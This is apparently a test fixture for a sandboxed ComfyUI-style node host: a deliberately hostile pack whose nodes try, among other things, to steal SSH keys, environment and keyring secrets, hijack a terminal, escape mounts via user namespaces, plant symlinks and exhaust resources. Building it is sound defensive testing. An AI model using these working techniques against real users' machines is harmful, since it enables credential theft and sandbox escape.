"""A hostile ComfyUI-format pack: each node tries one attack and returns what it achieved, beside one honest node.

The tests copy this folder into a custom_nodes folder as ``hostile-pack`` and run its nodes through ``comfy run``
and ``comfy serve``. Every attack node is an output node that returns a JSON report (as its STRING output and as
UI text) and also writes it to the output folder as ``attack-<kind>-<tag>.json``, the one place a pack may write:
the test reads whichever it can reach. An attack node never hides what it got: a report of a successful attack
holds the stolen text itself, so a test fails on the secret, not on a flag the pack chose to set.

Nothing here is subtle on purpose: the point is that the pack host stops plain attempts that run as the user's own
process would let them (and, with ``--isolation off``, the same nodes do succeed -- which the tests also check).
"""

from __future__ import annotations

import json
import mmap
import os
import shutil
import socket
import subprocess
from pathlib import Path

import folder_paths

GIB = 1 << 30
SECRET_WORDS = ("TOKEN", "SECRET", "KEY", "PASSWORD", "CREDENTIAL")


def _drop_beside_the_custom_nodes_folder(name: str) -> None:
    """Import-time mischief: a file in the folder that holds custom_nodes/ (the test's scene), with the process's
    environment in it. In a pack host that folder is hidden, so the file lands in the host's own /tmp, never here."""
    try:
        target = Path(__file__).resolve().parents[2] / name
        target.write_text(json.dumps(dict(os.environ)))
    except OSError:
        pass


_drop_beside_the_custom_nodes_folder("pwned-at-import.json")


def _report(kind: str, tag: str, data: dict) -> dict:
    text = json.dumps({"kind": kind, "tag": tag, **data}, sort_keys=True)
    out = Path(folder_paths.get_output_directory())
    out.mkdir(parents=True, exist_ok=True)
    (out / f"attack-{kind}-{tag}.json").write_text(text)
    return {"ui": {"text": [text]}, "result": (text,)}


def _read(path: str) -> str:
    with open(path, encoding="utf-8", errors="replace") as f:
        return f.read(4096)


class _Attack:
    CATEGORY = "hostile"
    RETURN_TYPES = ("STRING",)
    FUNCTION = "run"
    OUTPUT_NODE = True


class HostileReadHome(_Attack):
    """Read the user's private key and other files of their home folder (the real one, whose path it is given:
    an attacker knows where homes live), and list what the home folder holds."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"home": ("STRING", {"default": ""}), "tag": ("STRING", {"default": "t"})}}

    def run(self, home, tag):
        import pwd

        candidates = []
        for base in (home, os.path.expanduser("~"), os.environ.get("HOME", ""), pwd.getpwuid(os.getuid()).pw_dir):
            if base:
                for rel in (".ssh/id_test", ".config/hearth/config.toml", ".netrc"):
                    candidates.append(os.path.join(base, rel))
        read, errors, listing = {}, {}, {}
        for path in dict.fromkeys(candidates):
            try:
                read[path] = _read(path)
            except OSError as exc:
                errors[path] = f"{type(exc).__name__}: {exc}"
        for base in dict.fromkeys(b for b in (home, os.path.join(home, ".ssh")) if b):
            try:
                listing[base] = sorted(os.listdir(base))
            except OSError as exc:
                listing[base] = f"{type(exc).__name__}: {exc}"
        return _report("home", tag, {"read": read, "errors": errors, "listing": listing})


class HostileEnvSecrets(_Attack):
    """Read the process environment, and the environments of the processes it can see (its parent, PID 1)."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"tag": ("STRING", {"default": "t"})}}

    def run(self, tag):
        others = {}
        for pid in dict.fromkeys((os.getppid(), 1)):
            try:
                with open(f"/proc/{pid}/environ", "rb") as f:
                    pairs = [p.decode(errors="replace") for p in f.read().split(b"\0") if p]
                others[str(pid)] = [p for p in pairs if any(w in p.split("=", 1)[0].upper() for w in SECRET_WORDS)]
            except OSError as exc:
                others[str(pid)] = f"{type(exc).__name__}: {exc}"
        return _report("env", tag, {"environ": dict(os.environ), "other_processes": others})


class HostileNetwork(_Attack):
    """Send what it would steal to a listener on the machine's loopback interface."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"port": ("INT", {"default": 1, "min": 1, "max": 65535}),
                             "payload": ("STRING", {"default": ""}), "tag": ("STRING", {"default": "t"})}}

    def run(self, port, payload, tag):
        attempts = {}
        for host in ("127.0.0.1", "localhost"):
            try:
                with socket.create_connection((host, port), timeout=3) as conn:
                    conn.sendall(payload.encode())
                attempts[host] = "sent"
            except OSError as exc:
                attempts[host] = f"{type(exc).__name__}: {exc}"
        return _report("network", tag, {"attempts": attempts, "connected": "sent" in attempts.values()})


class HostileUnixSocket(_Attack):
    """Send the same to services listening on Unix-domain sockets of the machine (where docker.sock, a local
    PostgreSQL or the D-Bus system bus listen, under /run): a socket file is reachable wherever its folder is
    visible, read-only or not."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"paths": ("STRING", {"default": "[]"}), "payload": ("STRING", {"default": ""}),
                             "tag": ("STRING", {"default": "t"})}}

    def run(self, paths, payload, tag):
        attempts = {}
        for path in json.loads(paths):
            try:
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
                    conn.settimeout(3)
                    conn.connect(path)
                    conn.sendall(payload.encode())
                attempts[path] = "sent"
            except OSError as exc:
                attempts[path] = f"{type(exc).__name__}: {exc}"
        return _report("unix", tag, {"attempts": attempts, "connected": "sent" in attempts.values()})


# keyctl(2) by number: the standard library has no binding (x86_64, aarch64).
KEYCTL = {"x86_64": 250, "aarch64": 219}
KEYCTL_SEARCH, KEYCTL_READ = 10, 11
KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING = -3, -4


class HostileKeyring(_Attack):
    """Read a secret from the kernel keyrings its process inherited (where Kerberos tickets, ecryptfs keys and
    ``keyctl``-stored tokens live): the session keyring comes with every fork unless someone replaces it."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"description": ("STRING", {"default": ""}), "tag": ("STRING", {"default": "t"})}}

    def run(self, description, tag):
        import ctypes
        import platform

        number = KEYCTL.get(platform.machine())
        found = {}
        if number is None:
            return _report("keyring", tag, {"found": found, "unsupported": platform.machine()})
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        for name, keyring in (("session", KEY_SPEC_SESSION_KEYRING), ("user", KEY_SPEC_USER_KEYRING)):
            key = libc.syscall(number, KEYCTL_SEARCH, keyring, b"user", description.encode(), 0)
            if key < 0:
                found[name] = f"not found ({os.strerror(ctypes.get_errno())})"
                continue
            buffer = ctypes.create_string_buffer(4096)
            size = libc.syscall(number, KEYCTL_READ, key, buffer, len(buffer))
            found[name] = buffer.raw[:size].decode(errors="replace") if size >= 0 else \
                f"unreadable ({os.strerror(ctypes.get_errno())})"
        return _report("keyring", tag, {"found": found})


class HostileTerminal(_Attack):
    """Open the user's terminal (a /dev/pts device of the same user, whose path it is given: an attacker would try
    them all), read what they type there -- a password at a sudo prompt -- and write text of its own into it."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"path": ("STRING", {"default": ""}), "tag": ("STRING", {"default": "t"})}}

    def run(self, path, tag):
        try:
            fd = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
        except OSError as exc:
            return _report("terminal", tag, {"opened": False, "error": f"{type(exc).__name__}: {exc}"})
        try:
            try:
                typed = os.read(fd, 4096).decode(errors="replace")
            except BlockingIOError:
                typed = ""
            os.write(fd, f"injected-by-{tag}\r\n".encode())
        finally:
            os.close(fd)
        return _report("terminal", tag, {"opened": True, "typed": typed})


class HostileWrite(_Attack):
    """Drop a file in each folder it is given (home, /tmp, its own folder, input, models), and one in the output
    folder, where a pack may write."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"targets": ("STRING", {"default": "[]"}), "marker": ("STRING", {"default": "m"}),
                             "tag": ("STRING", {"default": "t"})}}

    def run(self, targets, marker, tag):
        results = {}
        for folder in json.loads(targets) + [os.path.dirname(os.path.abspath(__file__))]:
            path = os.path.join(folder, f"pwned-{marker}.txt")
            try:
                with open(path, "w") as f:
                    f.write("pwned")
                results[folder] = "wrote"
            except OSError as exc:
                results[folder] = f"{type(exc).__name__}: {exc}"
        output = Path(folder_paths.get_output_directory()) / f"allowed-{marker}.txt"
        output.write_text("written by hostile-pack")
        # comfy run prints the paths of the files a workflow saved on stdout, for scripts: add a fake one.
        print(f"/etc/cron.d/pwned-{marker}", flush=True)
        return _report("write", tag, {"results": results, "output_file": str(output)})


class HostileUnshare(_Attack):
    """Make a user and mount namespace of its own (full capabilities in there), then try to take the host's mounts
    apart: unmount what hides the home folder, remount the input folder writable, and read and write through.
    Done in a forked child, so the node's own process keeps its namespaces whatever happens."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"home": ("STRING", {"default": ""}), "input": ("STRING", {"default": ""}),
                             "marker": ("STRING", {"default": "m"}), "tag": ("STRING", {"default": "t"})}}

    def run(self, home, input, marker, tag):
        read_end, write_end = os.pipe()
        child = os.fork()
        if child == 0:  # pragma: no cover - the child reports through the pipe and never returns
            try:
                os.close(read_end)
                result = _take_mounts_apart(home, input, marker)
                os.write(write_end, json.dumps(result).encode())
            finally:
                os._exit(0)
        os.close(write_end)
        with os.fdopen(read_end, "rb") as pipe:
            data = pipe.read()
        os.waitpid(child, 0)
        return _report("unshare", tag, json.loads(data or b"{}"))


def _take_mounts_apart(home: str, input: str, marker: str) -> dict:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    result = {}
    if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        return {"unshare": os.strerror(ctypes.get_errno())}
    result["unshare"] = "ok"
    try:
        for name, text in (("setgroups", "deny"), ("uid_map", f"0 {os.getuid()} 1"), ("gid_map", f"0 {os.getgid()} 1")):
            with open(f"/proc/self/{name}", "w") as f:
                f.write(text)
    except OSError as exc:
        result["maps"] = str(exc)
    for target in (home, os.path.dirname(home), "/tmp", "/home", "/root", "/dev"):
        gone = libc.umount2(target.encode(), 2) == 0  # MNT_DETACH
        result[f"umount {target}"] = "ok" if gone else os.strerror(ctypes.get_errno())
    rw = libc.mount(None, input.encode(), None, 32 | 4096, None) == 0  # MS_REMOUNT | MS_BIND, without MS_RDONLY
    result["remount input"] = "ok" if rw else os.strerror(ctypes.get_errno())
    try:
        result["key"] = _read(os.path.join(home, ".ssh", "id_test"))
    except OSError as exc:
        result["key"] = f"{type(exc).__name__}: {exc}"
    try:
        with open(os.path.join(input, f"pwned-{marker}.txt"), "w") as f:
            f.write("pwned")
        result["write input"] = "wrote"
    except OSError as exc:
        result["write input"] = f"{type(exc).__name__}: {exc}"
    return result


class HostileSymlinks(_Attack):
    """Plant links in the output folder (``links``: name -> target) for Hearth's own code to follow: a file the
    server would serve, a folder a later SaveImage would save into. The host cannot reach the targets; Hearth can.
    And a named pipe posing as an image, to hang whoever reads it."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"links": ("STRING", {"default": "{}"}), "tag": ("STRING", {"default": "t"})}}

    def run(self, links, tag):
        made = {}
        out = Path(folder_paths.get_output_directory())
        for name, target in json.loads(links).items():
            try:
                os.symlink(target, out / name)
                made[name] = "linked"
            except OSError as exc:
                made[name] = f"{type(exc).__name__}: {exc}"
        try:  # a pipe named like an image: whoever opens it to read waits for a writer that never comes
            os.mkfifo(out / f"trap-{tag}.png")
            made[f"trap-{tag}.png"] = "fifo"
        except OSError as exc:
            made[f"trap-{tag}.png"] = f"{type(exc).__name__}: {exc}"
        return _report("symlinks", tag, {"made": made})


class HostileSpawn(_Attack):
    """Start a ``sleep`` in a session of its own (argv[0] is ``marker``, so the test can find it) and return
    at once: the process outlives the node."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"marker": ("STRING", {"default": "m"}), "tag": ("STRING", {"default": "t"})}}

    def run(self, marker, tag):
        sleep = shutil.which("sleep") or "/bin/sleep"
        child = subprocess.Popen([marker, "300"], executable=sleep, start_new_session=True,
                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        return _report("spawn", tag, {"pid": child.pid})


class HostileMemory(_Attack):
    """Reserve ``gib`` GiB of address space (far past any host's limit), then touch up to ``touch_mib`` MiB of
    it. Where no limit stops the reservation the node returns what it got (so the test fails, and the touching is
    capped so that a missing limit cannot take this machine down with it)."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"gib": ("INT", {"default": 64, "min": 1, "max": 1 << 20}),
                             "touch_mib": ("INT", {"default": 1024, "min": 1, "max": 1 << 20}),
                             "tag": ("STRING", {"default": "t"})}}

    def run(self, gib, touch_mib, tag):
        # MAP_NORESERVE (Linux's 0x4000; the constant is in the mmap module from Python 3.12): without a limit the
        # reservation succeeds, whatever the machine's RAM, so only a limit can stop it.
        flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | getattr(mmap, "MAP_NORESERVE", 0x4000)
        try:
            block = mmap.mmap(-1, gib * GIB, flags=flags)
        except OSError as exc:  # the host's memory limit refuses the address space
            raise MemoryError(f"could not reserve {gib} GiB: {exc}") from exc
        chunk = 64 << 20
        touched = 0
        while touched < touch_mib << 20:
            block[touched:touched + chunk] = b"\x01" * chunk
            touched += chunk
        block.close()
        return _report("memory", tag, {"reserved_gib": gib, "touched_mib": touched >> 20})


class HostileLater:
    """Return the image it was given -- the very shared memory it came in -- and overwrite it ``delay`` seconds
    after returning, when Hearth has it in its cache or a trusted node is saving it."""

    CATEGORY = "hostile"
    RETURN_TYPES = ("IMAGE",)
    FUNCTION = "run"

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"image": ("IMAGE",), "delay": ("FLOAT", {"default": 0.3, "min": 0.0}),
                             "value": ("FLOAT", {"default": 1.0})}}

    def run(self, image, delay, value):
        import threading
        import time

        def later():
            time.sleep(delay)
            image.fill_(value)

        threading.Thread(target=later, daemon=True).start()
        return (image,)


class HostileExhaust(_Attack):
    """Start processes and open files until something says no (up to ``cap`` of each), then let them all go: the
    counts show where the host's limits stopped it."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"cap": ("INT", {"default": 2000, "min": 1}), "tag": ("STRING", {"default": "t"})}}

    def run(self, cap, tag):
        children, files, stopped = [], [], {}
        try:
            while len(children) < cap:
                pid = os.fork()
                if pid == 0:  # pragma: no cover - the child only waits to be killed
                    import time

                    time.sleep(60)
                    os._exit(0)
                children.append(pid)
        except OSError as exc:
            stopped["processes"] = f"{type(exc).__name__}: {exc}"
        finally:
            for pid in children:
                os.kill(pid, 9)
            for pid in children:
                os.waitpid(pid, 0)
        try:
            while len(files) < cap:
                files.append(os.open(os.devnull, os.O_RDONLY))
        except OSError as exc:
            stopped["files"] = f"{type(exc).__name__}: {exc}"
        finally:
            for fd in files:
                os.close(fd)
        return _report("exhaust", tag, {"processes": len(children), "files": len(files), "stopped": stopped})


class HostileForge:
    """Lie in the wire: the host's own encoder runs in the pack's process, so the pack rewrites it to describe the
    image it returns as ``shape`` with no shared memory behind it. A receiver that believes the header allocates
    that much itself -- outside the host's memory limit, and uninitialised (what Hearth's process freed before) --
    where it should refuse the frame. Writes ``forge-armed-<tag>`` to the output folder once the lie is in place."""

    CATEGORY = "hostile"
    RETURN_TYPES = ("IMAGE",)
    FUNCTION = "run"

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"height": ("INT", {"default": 8, "min": 1}), "width": ("INT", {"default": 8, "min": 1}),
                             "tag": ("STRING", {"default": "t"})}}

    def run(self, height, width, tag):
        import sys

        import torch

        wire = sys.modules.get("hearth.sandbox.wire")
        header = getattr(wire, "_array_header", None)
        if header is None:
            raise RuntimeError("hearth.sandbox.wire._array_header is gone: HostileForge needs updating")

        def lying_header(out, lib, dtype, shape, strides, offset, size, fd_index):
            claimed = (1, height, width, 3)
            contiguous = (height * width * 3, width * 3, 3, 1)
            return header(out, lib, dtype, claimed, contiguous, 0, 0, None)

        wire._array_header = lying_header
        (Path(folder_paths.get_output_directory()) / f"forge-armed-{tag}").write_text("armed")
        return (torch.zeros(1, 1, 1, 3),)


class HostileHang(_Attack):
    """Never return and never look at Hearth's interrupt (sleeping, so it costs no CPU while it hangs)."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"tag": ("STRING", {"default": "t"})}}

    def run(self, tag):
        import time

        while True:
            time.sleep(0.05)


class HostileCrash(_Attack):
    """Crash its process with a segmentation fault, as a broken native extension does. (Not with kill(): a pack
    host is PID 1 of its namespace, which the kernel shields from signals sent from inside it.)"""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"tag": ("STRING", {"default": "t"})}}

    def run(self, tag):
        import ctypes

        ctypes.string_at(0)  # reads address 0: SIGSEGV
        return _report("crash", tag, {"survived": True})


class HostileHonest(_Attack):
    """The pack's honest node: a pure function of its inputs."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"text": ("STRING", {"default": ""}), "times": ("INT", {"default": 1, "min": 0}),
                             "tag": ("STRING", {"default": "t"})}}

    def run(self, text, times, tag):
        return _report("honest", tag, {"value": "-".join([text[::-1].upper()] * times)})


class HostileSaveImage(_Attack):
    """Registered as ``SaveImage``: were it to replace Hearth's, every image any workflow saves would pass through
    this pack (a copy to keep, a watermark to add)."""

    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"images": ("IMAGE",), "filename_prefix": ("STRING", {"default": "ComfyUI"})}}

    def run(self, images, filename_prefix):
        return _report("hijack", "saveimage", {"seen": list(images.shape)})


NODE_CLASS_MAPPINGS = {cls.__name__: cls for cls in (
    HostileReadHome, HostileEnvSecrets, HostileNetwork, HostileUnixSocket, HostileKeyring, HostileTerminal, HostileUnshare, HostileWrite,
    HostileSymlinks, HostileSpawn, HostileLater, HostileMemory, HostileExhaust, HostileForge, HostileHang, HostileCrash, HostileHonest)}
NODE_CLASS_MAPPINGS["SaveImage"] = HostileSaveImage
NODE_DISPLAY_NAME_MAPPINGS = {name: name.replace("Hostile", "Hostile ") for name in NODE_CLASS_MAPPINGS}
